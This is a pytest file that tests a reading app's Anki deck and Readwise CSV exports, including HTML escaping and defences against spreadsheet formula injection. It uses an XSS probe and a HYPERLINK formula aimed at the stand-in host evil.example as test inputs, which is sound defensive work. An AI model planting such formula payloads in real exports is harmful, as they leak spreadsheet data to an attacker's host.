"""Anki decks and Readwise CSV: opened and read back as the services would."""

from __future__ import annotations

import contextlib
import csv
import io
import os
import sqlite3
import stat
import zipfile
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from reader.cli import main
from reader.core.models import Annotation
from reader.export.anki import note_guid, write_deck
from reader.export.highlight import HighlightInContext
from reader.export.readwise import COLUMNS, readwise_csv
from tests.cli.test_cli import library  # noqa: F401 - the fixture


def notes_of(deck: Path, tmp_path: Path) -> list[tuple[str, list[str], list[str]]]:
    """(guid, fields, tags) of every note of an .apkg (a zip holding a SQLite collection)."""
    with zipfile.ZipFile(deck) as archive:
        db = tmp_path / f"{deck.stem}.anki2"
        db.write_bytes(archive.read("collection.anki2"))
    with contextlib.closing(sqlite3.connect(db)) as connection:
        rows = connection.execute("SELECT guid, flds, tags FROM notes ORDER BY guid").fetchall()
    return [(guid, flds.split("\x1f"), tags.split()) for guid, flds, tags in rows]


@pytest.fixture
def db(library: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> Path:  # noqa: F811
    store = tmp_path / "store"
    assert main(["--db", str(store), "import", str(library)]) == 0
    made = [
        ("Crane operators at the eastern harbour voted", ["ports", "work"], "<b>vote</b> & co"),
        ("The union said the vote passed", ["unions"], ""),
    ]
    for quote, tags, note in made:
        args = ["--db", str(store), "annotate", "--quote", quote, "--note", note]
        for tag in tags:
            args += ["--tag", tag]
        assert main(args) == 0
    capsys.readouterr()
    return store


def test_anki_deck_has_one_note_per_highlight_with_stable_guids(
    db: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    first, second = tmp_path / "a.apkg", tmp_path / "b.apkg"
    for deck in (first, second):
        assert main(["--db", str(db), "export", "--format", "anki", "--output", str(deck)]) == 0
    assert "wrote 2 highlights" in capsys.readouterr().err
    notes = notes_of(first, tmp_path)
    assert len(notes) == 2
    assert [n[0] for n in notes] == [n[0] for n in notes_of(second, tmp_path)]
    by_quote = {fields[0]: (guid, fields, tags) for guid, fields, tags in notes}
    _guid, fields, tags = by_quote["Crane operators at the eastern harbour voted"]
    _quote, context, note, shown_tags, source = fields
    assert context == (
        "<b>Crane operators at the eastern harbour voted</b> on Monday to extend night shifts "
        "through the spring. The union said the vote passed by a wide margin after two weeks "
        "of talks."
    )
    assert note == "&lt;b&gt;vote&lt;/b&gt; &amp; co"  # text, never live HTML
    assert shown_tags == "#ports #work" and sorted(tags) == ["ports", "work"]
    assert source.startswith("Harbour Crane Operators Vote to Extend Night Shifts")
    assert "The Quay Gazette" in source


def test_anki_deck_gets_the_umask_mode_like_every_export_and_keeps_an_existing_mode(
    db: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    deck = tmp_path / "deck.apkg"
    old = os.umask(0o022)
    try:
        assert main(["--db", str(db), "export", "--format", "anki", "--output", str(deck)]) == 0
        assert stat.S_IMODE(deck.stat().st_mode) == 0o644  # was 0600 (a mkstemp file)
        deck.chmod(0o640)
        assert main(["--db", str(db), "export", "--format", "anki", "--output", str(deck)]) == 0
        assert stat.S_IMODE(deck.stat().st_mode) == 0o640
    finally:
        os.umask(old)
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".deck")] == []


def test_anki_export_respects_tag_and_query(
    db: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    deck = tmp_path / "unions.apkg"
    args = ["--db", str(db), "export", "--format", "anki", "--output", str(deck)]
    assert main([*args, "--tag", "unions"]) == 0
    assert [n[1][0] for n in notes_of(deck, tmp_path)] == ["The union said the vote passed"]
    assert main([*args, "--query", "tag:work"]) == 0
    assert [n[2] for n in notes_of(deck, tmp_path)] == [["ports", "work"]]


def test_anki_needs_an_output_file(db: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["--db", str(db), "export", "--format", "anki"]) == 1
    err = capsys.readouterr().err
    assert err == "reader: an Anki deck is a file: give --output deck.apkg\n"


def test_readwise_csv_reads_back(db: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["--db", str(db), "export", "--format", "readwise"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert len(rows) == 2
    row = next(r for r in rows if r["Highlight"].startswith("Crane"))
    assert tuple(row) == COLUMNS
    assert row["Title"] == "Harbour Crane Operators Vote to Extend Night Shifts"
    assert row["Author"] == "The Quay Gazette"  # no byline: the publication
    assert row["Note"] == "<b>vote</b> & co"
    assert row["Tags"] == "ports,work"
    assert int(row["Location"]) >= 0
    assert len(row["Date"]) == 19 and row["Date"][4] == "-" and row["Date"][10] == " "
    assert main(["--db", str(db), "export", "--format", "readwise", "--article", "nope"]) == 1


def _item(**changes: object) -> HighlightInContext:
    annotation = Annotation(
        id="h1",
        article_id="a",
        quote='He said "<script>alert(1)</script>", twice,\nthen left.',
        start=3,
        end=9,
        note="line one\nline <i>two</i>",
        tags=["a-tag"],
        created="2025-01-14T10:00:00+02:00",
    )
    fields: dict[str, object] = {"annotation": annotation, "title": "T & U", "before": "<p>"}
    fields.update(changes)
    return HighlightInContext(**fields)  # type: ignore[arg-type]


def test_anki_fields_are_escaped_text(tmp_path: Path) -> None:
    deck = tmp_path / "x.apkg"
    assert write_deck(deck, [_item()], timestamp=1.0) == 1
    ((guid, fields, tags),) = notes_of(deck, tmp_path)
    assert guid == note_guid("h1")
    assert "<script>" not in "".join(fields)
    assert fields[0] == (
        "He said &quot;&lt;script&gt;alert(1)&lt;/script&gt;&quot;, twice, then left."
    )
    assert fields[1].startswith("&lt;p&gt;<b>He said")
    assert fields[2] == "line one<br>line &lt;i&gt;two&lt;/i&gt;"
    assert fields[4] == "T &amp; U"
    assert tags == ["a-tag"]


def test_readwise_quotes_and_dates() -> None:
    text = readwise_csv([_item()])
    (row,) = list(csv.DictReader(io.StringIO(text)))
    assert row["Highlight"] == _item().annotation.quote  # newlines and quotes survive
    assert row["Date"] == "2025-01-14 08:00:00"  # UTC
    assert row["Location"] == "3"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_readwise_cells_never_start_a_spreadsheet_formula(start: str) -> None:
    """A highlight, note, title, author, address or tag starting like a formula is written
    with a leading single quote (OWASP's CSV-injection advice), the rest kept as it was."""
    payload = start + 'HYPERLINK("http://evil.example/?"&A1,"click")'
    annotation = Annotation(
        id="h1", article_id="a", quote=payload, start=0, end=5, note=payload, tags=[payload]
    )
    item = _item(annotation=annotation, title=payload, author=payload, url=payload)
    (row,) = list(csv.DictReader(io.StringIO(readwise_csv([item]), newline="")))
    for column in ("Highlight", "Title", "Author", "URL", "Note", "Tags"):
        assert row[column] == "'" + payload, column
    assert row["Location"] == "0"


@given(st.text(max_size=30))
def test_readwise_cells_are_the_text_unless_it_starts_like_a_formula(text: str) -> None:
    annotation = Annotation(id="h1", article_id="a", quote=text, start=0, end=1, note=text)
    text_csv = readwise_csv([_item(annotation=annotation)])
    (row,) = list(csv.DictReader(io.StringIO(text_csv, newline="")))
    dangerous = text[:1] in ("=", "+", "-", "@", "\t", "\r")
    assert row["Highlight"] == ("'" + text if dangerous else text)
    assert row["Note"] == row["Highlight"]
